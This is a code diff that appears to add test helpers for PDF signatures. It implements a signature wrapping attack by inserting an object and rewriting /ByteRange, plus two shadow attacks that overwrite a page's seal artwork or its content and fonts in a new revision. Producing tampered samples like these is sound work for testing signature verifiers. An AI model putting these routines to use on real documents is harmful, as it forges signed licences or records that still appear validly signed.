@@ -254,3 +254,59 @@ def add_second_signature(pdf: bytes) -> bytes:
             new_field_spec=SigFieldSpec("Approval", on_page=0, box=(60, 520, 540, 580)),
         ).sign_pdf(writer, output=out)
     return out.getvalue()
+
+
+# -- signature wrapping and shadow attacks ----------------------------------------------------
+def signature_wrapping(pdf: bytes) -> bytes:
+    """Signature Wrapping Attack (Mladenov et al.): a new object is inserted between the end
+    of /Contents' hex string and the second signed range, and the ByteRange numbers are
+    rewritten in place (same length, padded with spaces) so the second range starts after
+    the inserted bytes; the signed bytes themselves are unchanged."""
+    match, (a, b, c, d) = _byte_range(pdf)
+    inserted = (b"\n999 0 obj\n<< /Length 44 >>\nstream\n"
+                b"BT /F1 24 Tf 72 700 Td (WRAPPED) Tj ET\nendstream\nendobj\n")
+    old = match.group(0)
+    new = f"/ByteRange [{a} {b} {c + len(inserted)} {d}]".encode()
+    assert len(new) <= len(old)
+    new = new + b" " * (len(old) - len(new))
+    rewritten = pdf[:match.start()] + new + pdf[match.end():]
+    return rewritten[:c] + inserted + rewritten[c:]
+
+
+def _overwrite(writer: IncrementalPdfFileWriter, ref, obj) -> None:
+    """Give the object number of ``ref`` a new body in the next revision (a shadow
+    attack's 'same object number, other content')."""
+    writer.objects[(ref.generation, ref.idnum)] = obj
+
+
+def hide_page_object(pdf: bytes) -> bytes:
+    """Shadow attack 'hide': a new revision overwrites the page's XObject (the QR code
+    and seal artwork live there) with an empty form XObject of the same object number."""
+    writer = _writer(pdf)
+    page = writer.root["/Pages"]["/Kids"][0]
+    xobjects = page["/Resources"]["/XObject"]
+    for name in list(xobjects.keys()):
+        ref = xobjects.raw_get(name)
+        _overwrite(writer, ref, generic.StreamObject(
+            dict_data={pdf_name("/Type"): pdf_name("/XObject"),
+                       pdf_name("/Subtype"): pdf_name("/Form"),
+                       pdf_name("/BBox"): generic.ArrayObject(
+                           [generic.FloatObject(v) for v in (0, 0, 1, 1)])},
+            stream_data=b""))
+    return _out(writer)
+
+
+def hide_and_replace_page(pdf: bytes) -> bytes:
+    """Shadow attack 'hide-and-replace': a new revision overwrites both the page's content
+    stream and its font resources (same object numbers) with the forger's own."""
+    writer = _writer(pdf)
+    page = writer.root["/Pages"]["/Kids"][0]
+    contents_ref = page.raw_get("/Contents")
+    fonts_ref = page["/Resources"].raw_get("/Font")
+    font = generic.DictionaryObject({
+        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
+        pdf_name("/BaseFont"): pdf_name("/Helvetica")})
+    _overwrite(writer, fonts_ref, generic.DictionaryObject({pdf_name("/F1"): font}))
+    _overwrite(writer, contents_ref, generic.StreamObject(
+        stream_data=b"BT /F1 24 Tf 72 700 Td (A DIFFERENT LICENCE) Tj ET"))
+    return _out(writer)
